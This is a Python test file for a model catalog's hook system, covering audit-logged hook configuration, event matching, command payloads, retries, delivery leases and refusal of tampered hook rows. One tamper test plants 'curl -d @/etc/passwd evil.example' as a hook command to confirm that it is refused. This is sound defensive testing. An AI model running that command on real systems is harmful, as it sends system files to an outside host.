"""Hooks on SQLite: configuration as audit events, matching, the payload a command
gets (stdin and environment), retries and their record, at-least-once in order
across a stopped deliverer, leases between concurrent deliverers, and a hook row
edited beside the log refused. (POST hooks: test_hook_posts.py; processes and the
CLI: tests/system/cli/test_hooks_cli.py; PostgreSQL: tests/system/test_hooks_pg.py.)"""

from __future__ import annotations

import json
import os
import threading
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import insert, text

from regtui.catalog import hook_cursor, hooks
from regtui.catalog.core import Core
from regtui.catalog.hook_delivery import Retry, environment, payload
from regtui.catalog.records import AuditEvent
from regtui.catalog.schema import HookRow
from regtui.catalog.service import Catalog
from regtui.errors import Conflict, NotFound, RegtuiError, UsageError
from tests.support.patience import patient
from tests.unit.helpers import artifact, catalog_with_versions

FAST = Retry(attempts=3, backoff=0.01)


def recorder(out: Path) -> str:
    """A command that appends its stdin (the event's JSON) as one line to `out`."""
    return f"cat >> '{out}'; echo >> '{out}'"


def lines(out: Path) -> list[dict[str, object]]:
    return [json.loads(x) for x in out.read_text().splitlines()] if out.exists() else []


@pytest.fixture
def cat(tmp_path: Path) -> Catalog:
    return catalog_with_versions(str(tmp_path / "c.sqlite"), tmp_path / "art", 3)


def deliver(cat: Catalog, retry: Retry = FAST, **options: object) -> list[hooks.Attempt]:
    seen: list[hooks.Attempt] = []
    cat.hook_deliverer(retry, on_attempt=seen.append, **options).run_once()
    return seen


# -------------------------------------------------------------- configuration


def test_add_and_remove_are_audit_events_and_the_secret_is_never_shown(
    cat: Catalog, tmp_path: Path
) -> None:
    secret = "s3cr3t-Zq9"
    cat.add_hook("ci", ["approved"], post="http://127.0.0.1:9/x", secret=secret)
    cat.add_hook("deploy", ["promoted"], run="true", model="churn", stage="production")
    events = cat.audit_events(action="hook_added")
    assert [e.target for e in events] == ["ci", "deploy"]
    assert events[0].after["secret"] is True and events[1].after["secret"] is False
    listed = json.dumps([h.to_json() for h in cat.hooks()])
    logged = json.dumps([e.to_json() for e in cat.audit_events()])
    exported = json.dumps(cat.export_data(), default=str)
    for shown in (listed, logged, exported):
        assert secret not in shown
    cat.remove_hook("ci", "moved")
    removed = cat.audit_events(action="hook_removed")
    assert [(e.target, e.reason) for e in removed] == [("ci", "moved")]
    assert [h.hook.name for h in cat.hooks()] == ["deploy"]
    check, state = cat.verify_catalog()
    assert check.ok and state is not None and state.ok, state


@pytest.mark.parametrize(
    ("options", "problem"),
    [
        ({"run": "true", "post": "http://x"}, "one of --run"),
        ({}, "one of --run"),
        ({"post": "file:///etc/passwd"}, "http:// or https://"),
        ({"post": "ftp://host/x"}, "http:// or https://"),
        ({"run": "true", "secret": "k"}, "a command gets none"),
        ({"run": "true", "stage": "production"}, "stage moves only"),
        ({"run": "true", "timeout": 0}, "--timeout"),
        ({"run": "  "}, "needs a command"),
    ],
)
def test_a_bad_hook_is_refused_in_one_line_and_nothing_is_written(
    cat: Catalog, options: dict[str, object], problem: str
) -> None:
    head = cat.audit_head()
    with pytest.raises(UsageError, match=problem):
        cat.add_hook("h", ["approved"], **options)  # type: ignore[arg-type]
    assert cat.audit_head() == head and cat.hooks() == []


@pytest.mark.parametrize("name", ["", "a b", "x" * 65, "churn:1", "a@b", "-x", "é"])
def test_bad_hook_names_are_refused(cat: Catalog, name: str) -> None:
    with pytest.raises(UsageError, match="bad hook name"):
        cat.add_hook(name, ["approved"], run="true")


def test_names_are_unique_and_removing_needs_the_hook_and_a_reason(cat: Catalog) -> None:
    cat.add_hook("h", ["approved"], run="true")
    with pytest.raises(Conflict):
        cat.add_hook("h", ["approved"], run="true")
    with pytest.raises(UsageError, match="reason"):
        cat.remove_hook("h", " ")
    with pytest.raises(NotFound):
        cat.remove_hook("nope", "why")


@pytest.mark.parametrize(
    ("name", "action"),
    [*hooks.EVENTS.items(), ("rolled-back", "rolled_back"), ("Metrics-Logged", "logged")],
)
def test_event_names_map_to_the_actions_written(name: str, action: str) -> None:
    assert hooks.event_action(name) == action


def test_an_unknown_event_names_the_known_ones() -> None:
    with pytest.raises(UsageError, match="rolled_back, demoted, archived, metrics_logged"):
        hooks.event_action("deployed")


# ------------------------------------------------------------------- matching


def _event(action: str, model: str, target: str) -> AuditEvent:
    return AuditEvent(1, datetime.now(UTC), "a", action, model, target, None, None, None, "", "")


MODELS = st.sampled_from(["churn", "fraud"])
STAGES = st.sampled_from(["production", "staging"])
ACTIONS = st.sampled_from([*hooks.EVENTS.values(), "edited", "hook_added", "model_created"])


@given(
    st.lists(st.sampled_from(list(hooks.EVENTS.values())), min_size=1, unique=True),
    st.none() | MODELS,
    st.none() | STAGES,
    ACTIONS,
    MODELS,
    STAGES,
)
def test_a_hook_matches_its_events_model_and_stage_only(
    events: list[str],
    model: str | None,
    stage: str | None,
    action: str,
    ev_model: str,
    ev_stage: str,
) -> None:
    moves = action in hooks.STAGE_EVENTS
    ev = _event(action, ev_model, f"{ev_model}@{ev_stage}" if moves else f"{ev_model}:2")
    hook = hooks.Hook(
        1, "h", tuple(events), model, stage, "run", "true", False, 60, 1, datetime.now(UTC), "a"
    )
    expected = (
        action in events
        and model in (None, ev_model)
        and (stage is None or (moves and stage == ev_stage))
    )
    assert hook.matches(ev) == expected


def test_every_event_kind_fires_its_hooks_once_per_change(cat: Catalog, tmp_path: Path) -> None:
    """One hook per event name; a run of every kind of change; each hook gets its kind only."""
    outs = {name: tmp_path / f"{name}.jsonl" for name in hooks.EVENTS}
    for name, out in outs.items():
        cat.add_hook(name.replace("_", "-"), [name], run=recorder(out))
    cat.register(artifact(tmp_path / "art", "m4.bin", "model 4"), "churn")
    cat.approve("churn:1", "ok")
    cat.approve("churn:2", "ok")
    cat.reject("churn:4", "no")
    cat.promote("churn:1", "production", reason="first")
    cat.promote("churn:2", "production", reason="second")
    cat.rollback("churn", "production", reason="back")
    cat.demote("churn", "production", reason="off")
    cat.archive("churn:3", reason="old")
    cat.log("churn:1", metrics={"f1": 0.5}, reason="late")
    deliver(cat)
    got = {name: [d["action"] for d in lines(out)] for name, out in outs.items()}
    assert got == {
        "registered": ["registered"],
        "approved": ["approved", "approved"],
        "rejected": ["rejected"],
        "promoted": ["promoted", "promoted"],
        "rolled_back": ["rolled_back"],
        "demoted": ["demoted"],
        "archived": ["archived"],
        "metrics_logged": ["logged"],
    }
    # One vocabulary: the name each kind's payload carries is what `--on` takes (as is
    # its dashed spelling), and what the hook then lists.
    named = {d["event"]: d["action"] for out in outs.values() for d in lines(out)}
    assert sorted(named) == sorted(hooks.EVENTS)
    for name, action in named.items():
        for n, spelling in enumerate((name, name.replace("_", "-"))):
            hook = cat.add_hook(f"again{n}-{name}", [spelling], run="true")
            assert hook.events == (action,) and hook.to_json()["events"] == [name]


@pytest.mark.parametrize(
    ("model", "stage", "expected"),
    [
        ("churn", "production", [("churn", "production")]),
        ("churn", None, [("churn", "staging"), ("churn", "production")]),
        (None, "production", [("churn", "production"), ("fraud", "production")]),
        ("fraud", "staging", []),
    ],
)
def test_model_and_stage_filters(
    cat: Catalog,
    tmp_path: Path,
    model: str | None,
    stage: str | None,
    expected: list[tuple[str, str]],
) -> None:
    out = tmp_path / "out.jsonl"
    cat.add_hook("h", ["promoted"], run=recorder(out), model=model, stage=stage)
    cat.register(artifact(tmp_path / "art", "f.bin", "fraud 1"), "fraud")
    cat.approve("churn:1", "ok")
    cat.approve("fraud:1", "ok")
    cat.promote("churn:1", "staging", reason="try")
    cat.promote("churn:1", "production", reason="go")
    cat.promote("fraud:1", "production", reason="go")
    deliver(cat)
    assert [(d["model"], d["stage"]) for d in lines(out)] == expected


# --------------------------------------------------------------- the payload


def test_a_command_gets_the_event_on_stdin_and_in_its_environment(
    cat: Catalog, tmp_path: Path
) -> None:
    out, env, cwd = tmp_path / "in.json", tmp_path / "env.txt", tmp_path / "cwd.txt"
    command = f"cat > '{out}'; env | grep '^REGTUI_' | sort > '{env}'; pwd > '{cwd}'"
    cat.add_hook("deploy", ["promoted"], run=command, model="churn", stage="production")
    cat.approve("churn:2", "beats 1")
    move = cat.promote("churn:2", "production", reason="ship it")
    [attempt] = deliver(cat)
    assert attempt.ok and attempt.status == 0 and attempt.final
    data = json.loads(out.read_text())
    v = cat.resolve("churn@production")
    served = Path(cat.store_location().path) / str(v.stored_path)
    assert data == {
        "seq": attempt.seq,
        "at": data["at"],
        "event": "promoted",
        "action": "promoted",
        "actor": move.by,
        "model": "churn",
        "version": 2,
        "stage": "production",
        "target": "churn@production",
        "reason": "ship it",
        "path": str(served),
        "sha256": v.sha256,
        "hash": cat.audit_events(action="promoted")[-1].hash,
    }
    assert served.is_file()
    given = environment(data)
    seen = {k: v for k, v in (x.split("=", 1) for x in env.read_text().splitlines()) if k in given}
    assert seen == given and seen["REGTUI_PATH"] == str(served)
    ran_in = Path(cwd.read_text().strip())
    assert ran_in.name.startswith("regtui-hook-") and not ran_in.exists()


def test_a_version_without_a_kept_copy_is_loaded_from_its_path(cat: Catalog) -> None:
    cat.approve("churn:1", "ok")
    ev = cat.audit_events(action="approved")[-1]
    data = payload(Core(cat.url), ev)
    v = cat.get("churn:1")
    assert (data["path"], data["sha256"], data["version"]) == (v.path, v.sha256, 1)
    assert environment(data)["REGTUI_STAGE"] == ""


# ------------------------------------------------------ retries, order, cursor


def test_a_failing_hook_is_retried_then_given_up_and_the_next_event_still_goes(
    cat: Catalog, tmp_path: Path
) -> None:
    out = tmp_path / "out.jsonl"
    # Fails for version 1's approval, succeeds for the rest.
    command = f"cat > ev.json; grep -q '\"version\":1' ev.json && {{ echo boom; exit 3; }}; cat ev.json >> '{out}'; echo >> '{out}'"
    cat.add_hook("h", ["approved"], run=command)
    cat.approve("churn:1", "ok")
    cat.approve("churn:2", "ok")
    seen = deliver(cat)
    assert [(a.seq, a.attempt, a.ok, a.status, a.final) for a in seen] == [
        (seen[0].seq, 1, False, 3, False),
        (seen[0].seq, 2, False, 3, False),
        (seen[0].seq, 3, False, 3, True),
        (seen[3].seq, 1, True, 0, True),
    ]
    assert seen[0].output.strip() == "boom"
    assert [d["version"] for d in lines(out)] == [2]
    [status] = cat.hooks()
    assert (status.delivered, status.failed) == (1, 1)
    assert status.last_failure is not None and status.last_failure.status == 3
    assert status.cursor == cat.audit_head()[0]
    assert [a.attempt for a in cat.hook_attempts(seq=seen[0].seq)] == [1, 2, 3]


@pytest.mark.parametrize("first", ["a-dead", "z-dead"])
def test_a_hook_retrying_a_dead_endpoint_holds_no_other_hook_back(
    cat: Catalog, tmp_path: Path, first: str
) -> None:
    """Each hook is caught up on its own: the healthy one delivers while the dead one
    is still waiting out its retries, whichever comes first by name."""
    released = tmp_path / "released"
    done = tmp_path / "done"
    # The dead hook fails until the test has seen the healthy one deliver.
    cat.add_hook(first, ["approved"], run=f"test -e '{released}'")
    cat.add_hook("m-healthy", ["approved"], run=f"touch '{done}'")
    cat.approve("churn:1", "ok")
    deliverer = cat.hook_deliverer(Retry(attempts=50, backoff=0.05))
    worker = threading.Thread(target=deliverer.run_once)
    worker.start()
    try:
        waited = 0.0
        while not done.exists() and waited < patient(20):
            threading.Event().wait(0.05)
            waited += 0.05
        assert done.exists(), "the healthy hook waited for the dead one"
        assert worker.is_alive()  # the dead one is still retrying meanwhile
    finally:
        released.touch()
        worker.join(patient(30))
    assert {h.hook.name: (h.delivered, h.failed) for h in cat.hooks()} == {
        first: (1, 0),
        "m-healthy": (1, 0),
    }


def test_backoff_doubles_and_is_capped() -> None:
    r = Retry(attempts=12, backoff=1.0)
    assert [r.wait_before(n) for n in range(2, 7)] == [1, 2, 4, 8, 16]
    assert r.wait_before(20) == 300


def test_a_deliverer_stopped_mid_way_delivers_again_from_where_it_was(
    cat: Catalog, tmp_path: Path
) -> None:
    """Three promotions while nothing delivers; a deliverer stopped during the second
    (it fails and is stopped while waiting to retry); the next delivers 2 and 3."""
    out, flag = tmp_path / "out.jsonl", tmp_path / "fail"
    command = f"cat > ev.json; test -e '{flag}' && exit 1; cat ev.json >> '{out}'; echo >> '{out}'"
    cat.add_hook("deploy", ["promoted"], run=command, stage="production")
    for n in (1, 2, 3):
        cat.approve(f"churn:{n}", "ok")
    cat.promote("churn:1", "production", reason="1")
    stop = threading.Event()

    def stop_on_failure(a: hooks.Attempt) -> None:
        if not a.ok:
            stop.set()

    deliver(cat)  # delivers the first
    flag.touch()
    cat.promote("churn:2", "production", reason="2")
    cat.promote("churn:3", "production", reason="3")
    cat.hook_deliverer(Retry(5, 30), on_attempt=stop_on_failure, stop=stop).run_once()
    assert stop.is_set() and [d["version"] for d in lines(out)] == [1]
    flag.unlink()
    deliver(cat)
    assert [d["version"] for d in lines(out)] == [1, 2, 3]
    deliver(cat)  # nothing due: nothing again
    assert [d["version"] for d in lines(out)] == [1, 2, 3]


def test_a_hook_fires_only_for_what_happens_after_it_was_added(
    cat: Catalog, tmp_path: Path
) -> None:
    out = tmp_path / "out.jsonl"
    cat.approve("churn:1", "before")
    cat.add_hook("h", ["approved"], run=recorder(out))
    cat.approve("churn:2", "after")
    deliver(cat)
    assert [d["reason"] for d in lines(out)] == ["after"]


def test_concurrent_deliverers_deliver_each_event_once_in_order(
    tmp_path: Path,
) -> None:
    db = str(tmp_path / "c.sqlite")
    cat = catalog_with_versions(db, tmp_path / "art", 3)
    out = tmp_path / "out.jsonl"
    cat.add_hook("h", ["approved", "rejected", "archived"], run=recorder(out))
    cat.approve("churn:1", "a")
    cat.reject("churn:2", "b")
    cat.approve("churn:3", "c")
    cat.archive("churn:2", "d")
    others = [Catalog(db, user="bob") for _ in range(3)]
    threads = [threading.Thread(target=lambda c=c: deliver(c)) for c in (cat, *others)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(patient(20))
    deliver(cat)  # a pass that found the lease taken catches up now, if anything is left
    got = [(d["action"], d["reason"]) for d in lines(out)]
    assert got == [("approved", "a"), ("rejected", "b"), ("approved", "c"), ("archived", "d")]
    assert len(cat.hook_attempts(hook="h")) == 4


def test_a_live_lease_is_not_taken_and_an_expired_one_is(cat: Catalog) -> None:
    hook = cat.add_hook("h", ["approved"], run="true")
    core = Core(cat.url)
    assert hook_cursor.claim(core, hook.id, "one", 60) == hook.added_seq
    assert hook_cursor.claim(core, hook.id, "two", 60) is None
    assert not hook_cursor.advance(core, hook.id, "two", hook.added_seq + 1, 60)
    assert hook_cursor.claim(core, hook.id, "one", 60) == hook.added_seq  # its own: renewed
    hook_cursor.claim(core, hook.id, "one", -1)  # a lease that ran out (a crashed deliverer)
    assert hook_cursor.claim(core, hook.id, "two", 60) == hook.added_seq


def test_a_command_past_its_timeout_is_killed_with_everything_it_started(
    cat: Catalog, tmp_path: Path
) -> None:
    pid_file = tmp_path / "child.pid"
    cat.add_hook("slow", ["approved"], run=f"sleep 60 & echo $! > '{pid_file}'; wait", timeout=0.5)
    cat.approve("churn:1", "ok")
    [attempt] = deliver(cat, Retry(1, 0))
    assert not attempt.ok and attempt.status is None and "timed out" in attempt.output
    assert attempt.duration < patient(10)
    child = int(pid_file.read_text())
    for _ in range(int(patient(50))):
        if not alive(child):
            break
        threading.Event().wait(0.05)
    assert not alive(child)


def alive(pid: int) -> bool:
    """Running, not a zombie waiting for init to reap it."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    stat = Path(f"/proc/{pid}/stat")
    return not (stat.exists() and stat.read_text().rsplit(")", 1)[1].split()[0] == "Z")


# ------------------------------------------------ a hook edited beside the log


TAMPER = [
    ("target", "curl -d @/etc/passwd evil.example"),
    ("events", '["approved", "promoted"]'),
    ("model", "fraud"),
    ("kind", "post"),
    ("timeout", "5"),
    ("added_seq", "1"),
]


@pytest.mark.parametrize(("column", "value"), TAMPER, ids=[c for c, _ in TAMPER])
def test_a_hook_row_edited_beside_the_log_is_refused_and_reported(
    cat: Catalog, tmp_path: Path, column: str, value: str
) -> None:
    out = tmp_path / "out.jsonl"
    cat.add_hook("h", ["approved"], run=recorder(out), model="churn")
    with cat.engine.begin() as conn:
        conn.execute(text(f"UPDATE hook SET {column} = :v"), {"v": value})
    cat.approve("churn:1", "ok")
    told: list[str] = []
    assert deliver(cat, report=told.append) == []
    assert not out.exists()
    assert len(told) == 1 and "refused" in told[0] and "hook h" in told[0]
    assert cat.hooks()[0].problem is not None
    with pytest.raises(RegtuiError, match="hook h"):
        cat.test_hook("h")
    _check, state = cat.verify_catalog()
    assert state is not None and not state.ok
    assert any(m.row == "hook h" for m in state.mismatches)


def test_a_hook_inserted_beside_the_log_or_brought_back_after_removal_is_refused(
    cat: Catalog, tmp_path: Path
) -> None:
    out = tmp_path / "out.jsonl"
    hook = cat.add_hook("h", ["approved"], run=recorder(out))
    cat.remove_hook("h", "done")
    config = {k: v for k, v in hook.config().items() if k != "secret"}
    row = {**config, "id": 7, "added_seq": hook.added_seq, "secret": None}
    row |= {"created_at": hook.created_at, "created_by": hook.created_by}
    with cat.engine.begin() as conn:
        conn.execute(insert(HookRow.__table__).values(**row))
        conn.execute(text("INSERT INTO hook_cursor (hook_id, seq) VALUES (7, 0)"))
        conn.execute(
            insert(HookRow.__table__).values(**{**row, "id": 8, "name": "ghost", "added_seq": 1})
        )
        conn.execute(text("INSERT INTO hook_cursor (hook_id, seq) VALUES (8, 0)"))
    cat.approve("churn:1", "ok")
    told: list[str] = []
    assert deliver(cat, report=told.append) == []
    assert not out.exists()
    assert sorted("removed" in t or "no hook_added" in t for t in told) == [True, True]


def test_hooks_stay_behind_on_export_and_the_import_verifies(cat: Catalog, tmp_path: Path) -> None:
    cat.add_hook("deploy", ["promoted"], run="true")
    cat.add_hook("gone", ["approved"], post="https://ci.example/x", secret="k")
    cat.remove_hook("gone", "unused")
    data = cat.export_data()
    with Catalog(str(tmp_path / "copy.sqlite")) as copy:
        copy.import_data(data)
        assert copy.hooks() == []
        assert [e.action for e in copy.audit_events() if e.action.startswith("hook_")] == [
            "hook_added",
            "hook_added",
            "hook_removed",
        ]
        check, state = copy.verify_catalog()
        assert check.ok and state is not None and state.ok, state


@pytest.mark.parametrize(
    "noise",
    ["head -c 100000 /dev/zero | tr '\\0' x", "printf '\\033[31mred\\033]0;title\\007 \\377'"],
    ids=["100 kB", "escapes and bad UTF-8"],
)
def test_what_a_command_prints_is_kept_bounded_and_as_text(cat: Catalog, noise: str) -> None:
    cat.add_hook("noisy", ["approved"], run=f"{noise}; exit 1")
    cat.approve("churn:1", "ok")
    [attempt] = deliver(cat, Retry(1, 0))
    assert not attempt.ok and attempt.status == 1
    assert 0 < len(attempt.output.encode()) <= 4 * hooks.OUTPUT_LIMIT
    assert "\x1b" not in attempt.output and "\x07" not in attempt.output
    assert cat.hook_attempts(hook="noisy")[0].output == attempt.output
